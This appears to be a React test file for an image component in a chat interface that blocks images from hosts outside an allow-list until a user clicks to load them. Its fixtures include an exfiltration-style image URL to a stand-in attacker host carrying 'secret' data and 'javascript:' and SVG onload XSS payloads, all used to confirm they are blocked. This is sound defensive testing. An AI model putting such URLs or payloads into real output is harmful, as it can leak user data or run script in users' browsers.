import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { createRef } from 'react';
import { afterEach, describe, expect, it } from 'vitest';
import { expectAccessible } from '../../../test/support/expect-accessible.js';
import { ChatCustomizationProvider } from '../chat/chat-customization.js';
import { ContentPolicyProvider, type ImagePolicy } from './content-policy.js';
import { imageOriginsStorageKey } from './image-origin-store.js';
import { PolicedImage } from './policed-image.js';

afterEach(() => {
  cleanup();
  sessionStorage.clear();
});

const cdnPolicy: ImagePolicy = { allow: ['https://cdn.example.com/img/'] };

describe('PolicedImage', () => {
  it('loads an allowed image with no referrer, lazily, forwarding className, ref and props', () => {
    const ref = createRef<HTMLElement>();
    render(
      <ContentPolicyProvider imagePolicy={cdnPolicy}>
        <PolicedImage ref={ref} src="https://cdn.example.com/img/cat.png" alt="A cat" title="Cat" className="mine" data-testid="cat" />
      </ContentPolicyProvider>,
    );
    const image = screen.getByRole('img', { name: 'A cat' });
    expect(ref.current).toBe(image);
    expect(image.getAttribute('src')).toBe('https://cdn.example.com/img/cat.png');
    expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(image.getAttribute('loading')).toBe('lazy');
    expect(image.getAttribute('decoding')).toBe('async');
    expect(image.getAttribute('title')).toBe('Cat');
    expect(image.className).toBe('mine');
    expect(image.getAttribute('data-testid')).toBe('cat');
    expect(image.hasAttribute('srcset')).toBe(false);
    expect(image.hasAttribute('sizes')).toBe(false);
  });

  it('shows a placeholder that makes no request for a foreign host, then loads every image of that origin on a click', async () => {
    const { container } = render(
      <ContentPolicyProvider imagePolicy={cdnPolicy}>
        <PolicedImage src="https://attacker.example/leak?d=secret" alt="chart" className="mine" />
        <PolicedImage src="https://attacker.example/other.png" alt="second" />
        <PolicedImage src="https://elsewhere.example/x.png" alt="third" />
      </ContentPolicyProvider>,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('leak?d=secret');
    const [first] = container.querySelectorAll('.platos-image-placeholder');
    expect(first?.className).toBe('platos-image-placeholder mine');
    expect(first?.getAttribute('data-state')).toBe('blocked');
    expect(first?.getAttribute('data-host')).toBe('attacker.example');
    expect(first?.textContent).toContain('chart');
    expect(first?.textContent).toContain('Image from attacker.example not loaded');
    expect(screen.getAllByRole('button', { name: 'Load image from attacker.example' })).toHaveLength(2);
    await expectAccessible(container);

    fireEvent.click(screen.getAllByRole('button', { name: 'Load image from attacker.example' })[0]!);
    expect(screen.getByRole('img', { name: 'chart' }).getAttribute('src')).toBe('https://attacker.example/leak?d=secret');
    expect(screen.getByRole('img', { name: 'second' }).getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(screen.queryByRole('img', { name: 'third' })).toBeNull();
    expect(screen.getByRole('button', { name: 'Load image from elsewhere.example' })).toBeTruthy();
    expect(sessionStorage.getItem(imageOriginsStorageKey)).toBeNull();
  });

  it("keeps choices per provider with remember: 'page', and in sessionStorage with 'session'", () => {
    const page = render(
      <>
        <ContentPolicyProvider>
          <PolicedImage src="https://pics.example/a.png" alt="in chat one" />
        </ContentPolicyProvider>
        <ContentPolicyProvider>
          <PolicedImage src="https://pics.example/b.png" alt="in chat two" />
        </ContentPolicyProvider>
      </>,
    );
    fireEvent.click(screen.getAllByRole('button', { name: 'Load image from pics.example' })[0]!);
    expect(screen.getByRole('img', { name: 'in chat one' })).toBeTruthy();
    expect(screen.queryByRole('img', { name: 'in chat two' })).toBeNull();
    page.unmount();

    const session = { remember: 'session' } as const;
    const first = render(
      <ContentPolicyProvider imagePolicy={session}>
        <PolicedImage src="https://pics.example/a.png" alt="before reload" />
      </ContentPolicyProvider>,
    );
    fireEvent.click(screen.getByRole('button', { name: 'Load image from pics.example' }));
    expect(JSON.parse(sessionStorage.getItem(imageOriginsStorageKey)!)).toEqual(['https://pics.example']);
    first.unmount();
    render(
      <ContentPolicyProvider imagePolicy={session}>
        <PolicedImage src="https://pics.example/c.png" alt="after reload" />
      </ContentPolicyProvider>,
    );
    expect(screen.getByRole('img', { name: 'after reload' })).toBeTruthy();
  });

  it("offers no button with blocked: 'never', nor for addresses that may never load", async () => {
    const { container } = render(
      <ContentPolicyProvider imagePolicy={{ blocked: 'never' }}>
        <PolicedImage src="https://attacker.example/x.png" alt="never" />
        <PolicedImage src="javascript:alert(1)" alt="script" />
        <PolicedImage src="data:image/svg+xml,<svg onload=alert(1)>" alt="svg" />
        <PolicedImage src="/relative.png" alt="" />
      </ContentPolicyProvider>,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.queryByRole('button')).toBeNull();
    const states = [...container.querySelectorAll('.platos-image-placeholder')].map((node) => [node.getAttribute('data-state'), node.getAttribute('data-host')]);
    expect(states).toEqual([
      ['blocked', 'attacker.example'],
      ['unsafe', null],
      ['unsafe', null],
      ['unsafe', null],
    ]);
    expect(container.textContent).toContain('Image not loaded: its address is not allowed');
    expect(container.innerHTML).not.toContain('javascript:');
    await expectAccessible(container);
  });

  it('outside a provider blocks foreign hosts and loads only the clicked image', () => {
    render(
      <>
        <PolicedImage src="https://pics.example/a.png" alt="one" />
        <PolicedImage src="https://pics.example/b.png" alt="two" />
      </>,
    );
    fireEvent.click(screen.getAllByRole('button', { name: 'Load image from pics.example' })[0]!);
    expect(screen.getByRole('img', { name: 'one' })).toBeTruthy();
    expect(screen.queryByRole('img', { name: 'two' })).toBeNull();
  });

  it('takes its labels from the chat', () => {
    const labels = { imageBlocked: 'Bild von {host} nicht geladen', imageLoad: 'Bild laden', imageLoadFrom: 'Bild von {host} laden' };
    render(
      <ChatCustomizationProvider value={{ toolRenderers: {}, labels }}>
        <PolicedImage src="https://pics.example/a.png" alt="" />
      </ChatCustomizationProvider>,
    );
    expect(screen.getByText('Bild von pics.example nicht geladen')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Bild von pics.example laden' }).textContent).toBe('Bild laden');
  });

  it('throws on an invalid allow-list entry when the provider renders', () => {
    const quiet = console.error;
    console.error = () => {};
    try {
      expect(() => render(<ContentPolicyProvider imagePolicy={{ allow: ['https://cdn.example.com'] }} />)).toThrow(/must end in "\/"/);
    } finally {
      console.error = quiet;
    }
  });
});
